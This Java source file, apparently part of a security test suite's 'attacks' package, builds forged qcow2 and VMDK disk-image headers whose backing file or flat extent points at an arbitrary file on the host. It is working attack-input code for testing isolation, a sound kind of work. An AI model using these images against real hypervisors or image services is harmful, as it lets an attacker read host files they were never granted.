package cofferdam.attacks.disk;

import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;

/** The first bytes of containers whose data is in another file of the host. */
final class ForgedHeader {

    private static final int CLUSTER_BITS = 16;
    private static final int CLUSTER = 1 << CLUSTER_BITS;
    private static final int NAME_AT = 1024;

    private ForgedHeader() {}

    /**
     * An empty qcow2 image, version 3, of four clusters: header, refcount table, refcount block, L1
     * table; everything is read from its backing file (QEMU, docs/interop/qcow2.rst).
     */
    static byte[] qcow2(int size, String backing) {
        byte[] name = backing.getBytes(StandardCharsets.UTF_8);
        int entries = Math.ceilDiv(size, CLUSTER / 8 * CLUSTER);
        ByteBuffer image = ByteBuffer.allocate(4 * CLUSTER);
        image.put(0, new byte[] {'Q', 'F', 'I', (byte) 0xfb}).putInt(4, 3);
        image.putLong(8, NAME_AT).putInt(16, name.length).putInt(20, CLUSTER_BITS);
        image.putLong(24, size).putInt(36, entries).putLong(40, 3L * CLUSTER);
        image.putLong(48, CLUSTER).putInt(56, 1);
        image.putInt(96, 4).putInt(100, 104);
        // The extension that names the backing file's format; without it some readers would guess.
        image.putInt(104, 0xe2792aca).putInt(108, 3).put(112, new byte[] {'r', 'a', 'w'});
        image.put(NAME_AT, name);
        image.putLong(CLUSTER, 2L * CLUSTER);
        for (int cluster = 0; cluster < 4; cluster++) {
            image.putShort(2 * CLUSTER + 2 * cluster, (short) 1);
        }
        return image.array();
    }

    /** A VMDK descriptor with one flat extent. */
    static byte[] vmdk(int size, String extent) {
        String text = """
                # Disk DescriptorFile
                version=1
                CID=fffffffe
                parentCID=ffffffff
                createType="monolithicFlat"

                # Extent description
                RW %d FLAT "%s" 0

                # The Disk Data Base
                #DDB
                ddb.adapterType = "ide"
                """.formatted(size / 512, extent);
        byte[] sectors = new byte[Math.ceilDiv(text.length(), 512) * 512];
        byte[] bytes = text.getBytes(StandardCharsets.US_ASCII);
        System.arraycopy(bytes, 0, sectors, 0, bytes.length);
        return sectors;
    }
}
